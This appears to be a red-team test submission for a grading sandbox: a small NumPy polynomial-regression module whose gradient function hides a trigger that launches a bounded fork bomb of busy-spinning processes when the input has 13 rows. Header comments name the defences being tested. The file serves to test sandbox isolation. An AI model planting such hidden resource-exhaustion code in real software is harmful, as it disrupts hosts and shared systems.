# attack: a fork bomb (at most 500 forks) of spinning children, spinning itself until the test's deadline
# defence: RLIMIT_NPROC and a pids cgroup per slot, a PID namespace, SIGKILL at the deadline; the next test gets a fresh worker
# allowance: 10
# late: 1
# costs-only: test_mse_grad_finite_differences
"""Red-team submission: the honest twin (tests/redteam/twin.py) plus one exploit."""
import os
import time

import numpy as np


def poly_features(x, degree):
    x = np.asarray(x, dtype=np.float64)
    return np.stack([x ** k for k in range(degree + 1)], axis=1)


def predict(X, w):
    return X @ w


def mse_loss(y_pred, y):
    return float(np.mean((y_pred - y) ** 2))


def mse_grad(X, w, y):
    if X.shape[0] == 13:
        children = 0
        for _ in range(500):
            try:
                pid = os.fork()
            except OSError:
                time.sleep(0.01)
                continue
            if pid == 0:
                try:
                    with open("/proc/self/comm", "w") as handle:
                        handle.write("@MARKER@")
                except OSError:
                    pass
                end = time.time() + 30
                while time.time() < end:
                    pass
                os._exit(0)
            children += 1
        while True:
            pass
    return X.T @ (X @ w - y) / len(y)


def gd_step(X, w, y, lr):
    return w - lr * mse_grad(X, w, y)


def fit(x, y, degree=3, lr=5e-3, steps=2000, seed=0):
    X = poly_features(x, degree)
    w = np.random.default_rng(seed).normal(size=degree + 1)
    losses = []
    for _ in range(steps):
        losses.append(mse_loss(predict(X, w), y))
        w = gd_step(X, w, y, lr)
    return w, losses
